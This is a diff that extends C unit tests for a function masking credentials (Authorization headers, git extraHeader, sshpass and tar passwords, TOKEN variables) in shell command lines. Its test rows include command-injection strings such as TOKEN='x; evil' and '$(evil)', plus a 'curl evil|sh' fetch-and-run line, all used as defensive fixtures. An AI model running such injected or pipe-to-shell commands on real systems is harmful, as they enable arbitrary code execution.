@@ -72,6 +72,13 @@ static const struct row commands[] = {
     {"curl -H \"X-Api-Key: abc\" x", "curl -H \"X-Api-Key: <masked>\" x"},
     {"curl -H Authorization:abc x", "curl -H Authorization:<masked> x"},
     {"curl -H 'Authorization: Custom abc def' x", "curl -H 'Authorization: <masked>' x"},
+    {"git -c http.extraHeader=\"Authorization: Basic abc==\" fetch",
+     "git -c http.extraHeader=\"Authorization: <masked>\" fetch"},
+    {"git -c http.https://x.example/.extraheader='AUTHORIZATION: bearer abc' fetch; ls",
+     "git -c http.https://x.example/.extraheader='AUTHORIZATION: <masked>' fetch; ls"},
+    {"curl -sc -H \"Authorization: Bearer abc\" x", "curl -sc -H \"Authorization: <masked>\" x"},
+    {"bash -c \"curl -H Authorization: Bearer abc\"",
+     "bash -c \"curl -H Authorization: <masked>\""},
     {"sh -c 'curl -H \"Authorization: Bearer abc\" x; ls'",
      "sh -c 'curl -H \"Authorization: <masked>\" x; ls'"},
     {"sh -c \"curl -H 'Authorization: Digest username=\\\"a b\\\", response=\\\"c\\\"' x; ls\"",
@@ -92,6 +99,15 @@ static const struct row commands[] = {
     {"mkdir -pv x; ssh -p22 h", "mkdir -pv x; ssh -p22 h"},
     {"sshpass -pSECRET ssh h", "sshpass -p<masked> ssh h"},
     {"sshpass -p 'a b' ssh h", "sshpass -p <masked> ssh h"},
+
+    /* -c that takes no code */
+    {"gcc -O2 -shared -c -DPASSWORD=\"a b\" x.c", "gcc -O2 -shared -c -DPASSWORD=<masked> x.c"},
+    {"tar -xzc --password \"a b\" x", "tar -xzc --password <masked> x"},
+    {"cd x && /usr/bin/tar -xzc --password 'a b' x",
+     "cd x && /usr/bin/tar -xzc --password <masked> x"},
+    {"X=1 tar -xzc \\\n --password 'a b' x", "X=1 tar -xzc \\\n --password <masked> x"},
+    {"bash x.sh\ntar -xzc --password 'a b'", "bash x.sh\ntar -xzc --password <masked>"},
+    {"bash -lc 'tar -xzc --password \"a b\"; ls'", "bash -lc 'tar -xzc --password <masked>; ls'"},
 
     /* variables */
     {"API_TOKEN=abc make", "API_TOKEN=<masked> make"},
@@ -176,6 +192,27 @@ static const struct row survivors[] = {
     {"bash -c -H 'cookie: ;evil x'", "bash -c -H 'cookie: ;evil x'"},
     {"bash -c -u 'x:; evil'", "bash -c -u <masked>; evil'"},
     {"bash -lc TOKEN='x; evil'", "bash -lc TOKEN=<masked>; evil'"},
+    {"bash -o pipefail -c TOKEN='x; evil'", "bash -o pipefail -c TOKEN=<masked>; evil'"},
+    {"bash -c -- TOKEN='x; evil'", "bash -c -- TOKEN=<masked>; evil'"},
+    {"bash '-c' TOKEN='x; evil'", "bash '-c' TOKEN=<masked>; evil'"},
+    {"bash --rcfile ';'x -c TOKEN='x; evil'", "bash --rcfile ';'x -c TOKEN=<masked>; evil'"},
+    {"bash --rcfile \\;x -c TOKEN='x; evil'", "bash --rcfile \\;x -c TOKEN=<masked>; evil'"},
+    {"bash 2>&1 -c TOKEN='x; evil'", "bash 2>&1 -c TOKEN=<masked>; evil'"},
+    {"bash >|x -c TOKEN='x; evil'", "bash >|x -c TOKEN=<masked>; evil'"},
+    {"bash --rcfile <(x) -c TOKEN='x; evil'", "bash --rcfile <(x) -c TOKEN=<masked>; evil'"},
+    {"bash -o \\\npipefail -c TOKEN='x; evil'", "bash -o \\\npipefail -c TOKEN=<masked>; evil'"},
+    {"sudo -u bob zsh5 -lc TOKEN='x; evil'", "sudo -u bob zsh5 -lc TOKEN=<masked>; evil'"},
+    {"$SHELL -c TOKEN='x; evil'", "$SHELL -c TOKEN=<masked>; evil'"},
+    {"su bob -c TOKEN='x; evil'", "su bob -c TOKEN=<masked>; evil'"},
+    {"python3.11 -c TOKEN='x; evil'", "python3.11 -c TOKEN=<masked>; evil'"},
+    {"/tmp/tar -c TOKEN='x; evil'", "/tmp/tar -c TOKEN=<masked>; evil'"},
+    {"-c TOKEN='x; evil'", "-c TOKEN=<masked>; evil'"},
+    {"bash -c \"bash --rcfile ' 'x -c TOKEN=\\\"y; evil\\\"\"",
+     "bash -c \"bash --rcfile ' 'x -c TOKEN=<masked>; evil\\\"\""},
+    {"sh -c 'authorization: bearer a; evil'", "sh -c 'authorization: <masked>; evil'"},
+    {"sh -c 'authorization: bearer $(evil)'", "sh -c 'authorization: <masked> $(evil)'"},
+    {"sh -c \"printf 'authorization: bearer '; evil\"",
+     "sh -c \"printf 'authorization: <masked>'; evil\""},
     {"eval TOKEN='x; evil'", "eval TOKEN=<masked>; evil'"},
     {"eval x --token 'a; evil'", "eval x --token <masked>; evil'"},
     {"X=1 eval 'a;' TOKEN='x; evil'", "X=1 eval 'a;' TOKEN=<masked>; evil'"},
@@ -270,7 +307,7 @@ static void code_of_any_language_is_masked(void **state)
 static void words_are_known_by_what_is_before(void **state)
 {
     static const struct {
-        const char *words[4];
+        const char *words[5];
         const char *masked;
     } rows[] = {
         {{"ls"}, "ls"},
@@ -287,6 +324,13 @@ static void words_are_known_by_what_is_before(void **state)
         {{"sshpass", "-p", "abc"}, MASK_SIGN},
         {{"mkdir", "-p", "abc"}, "abc"},
         {{"tool", "--token", ""}, ""},
+        {{"git", "-c", "http.extraHeader=Authorization: Basic abc"},
+         "http.extraHeader=Authorization: <masked>"},
+        {{"tar", "-xzc", "--password", "a b"}, MASK_SIGN},
+        {{"env", "TOKEN=$(evil)"}, "TOKEN=$(evil)"},
+        {{"bash", "-c", "TOKEN=$abc x"}, "TOKEN=$abc x"},
+        {{"su", "bob", "-c", "--token", "x; evil"}, "x; evil"},
+        {{"./tar", "-c", "--token", "x; evil"}, "x; evil"},
         {{"env", "BORG_PASSCOMMAND=curl evil|sh"}, "BORG_PASSCOMMAND=curl evil|sh"},
         {{"bash", "-c", "TOKEN=x; evil"}, "TOKEN=<masked>; evil"},
         {{"bash", "-c", "-u", "x:; evil"}, "x:; evil"},
@@ -300,6 +344,8 @@ static void words_are_known_by_what_is_before(void **state)
         while (last + 1 < COUNT(rows[i].words) && rows[i].words[last + 1] != NULL)
             last++;
         cleanup_free char *got = mask_word(rows[i].words, last);
+        if (strcmp(got, rows[i].masked) != 0)
+            print_error("masked:   %s\nexpected: %s\n", got, rows[i].masked);
         assert_string_equal(got, rows[i].masked);
     }
 }
